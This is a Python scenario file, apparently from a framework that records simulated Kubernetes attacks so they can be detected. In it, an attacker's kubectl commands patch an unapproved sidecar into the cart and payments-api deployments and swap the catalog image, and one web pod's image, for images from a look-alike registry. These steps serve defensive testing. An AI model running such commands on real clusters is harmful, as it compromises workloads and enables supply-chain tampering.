"""Containers and images that change in what already runs."""

import json

from recorder.client import STRATEGIC
from recorder.people import MALLORY, PIPELINE, WEB
from recorder.scenario import scenario
from recorder.stage import Stage

AGENT = {"name": "log-agent", "image": "docker.io/library/alpine:3.22", "command": ["sh", "-c", "sleep 1d"]}
SWAPPED = "registry.contoso-cdn.example/shop/catalog:2.7.1"


@scenario(
    title="A container is added to what runs, and images are swapped",
    use_case="pod-security",
    techniques=["T1610", "T1525", "T1036.005"],
    detect="a Deployment or a pod that gets one more container, or an image from another registry, by a person and not "
    "by the pipeline",
)
def play(stage: Stage) -> None:
    """Mallory patches a container called log-agent into the shop's cart and into payments-api, where the Pod Security
    Standard restricted refuses the new pods; he swaps the catalog's image for one of the same name at a look-alike
    registry, and the image of a single running pod. A script with the front end's stolen token is refused. The pipeline
    updates the image of web, and gives orders a sidecar of its own from the approved registry.
    """
    pipeline = stage.play_as(PIPELINE)
    stage.at("09:05:20")
    pipeline.patch("Deployment", "web", _containers("web", "registry.contoso.example/shop/web:4.2.1"), "shop",
                   how=STRATEGIC)  # fmt: skip
    stage.at("09:11:30")
    proxy = _containers("metrics-proxy", "registry.contoso.example/platform/metrics-proxy:0.9")
    pipeline.patch("Deployment", "orders", proxy, "shop", how=STRATEGIC)

    stage.at("09:18:05")
    script = stage.play_as(WEB, address="203.0.113.66", agent="python-requests/2.32.5")
    script.patch("Deployment", "web", _containers(AGENT["name"], AGENT["image"]), "shop", how=STRATEGIC, refused=403)

    mallory = stage.play_as(MALLORY)
    sidecar = json.dumps({"spec": {"template": {"spec": {"containers": [AGENT]}}}})
    stage.at("09:27:40")
    mallory.kubectl("patch", "deployment", "cart", "-n", "shop", "--patch", sidecar)
    stage.at("09:29:15")
    mallory.kubectl("patch", "deployment", "payments-api", "-n", "payments", "--patch", sidecar)
    stage.at("09:36:50")
    mallory.kubectl("set", "image", "deployment/catalog", "-n", "shop", f"catalog={SWAPPED}")
    stage.at("09:45:10")
    pod = stage.pod("shop", "web")
    mallory.kubectl("set", "image", f"pod/{pod}", "-n", "shop", "web=registry.contoso-cdn.example/shop/web:4.2.1")


def _containers(name: str, image: str) -> dict[str, object]:
    """A change of a Deployment that sets a container's image, or adds the container."""
    return {"spec": {"template": {"spec": {"containers": [{"name": name, "image": image}]}}}}
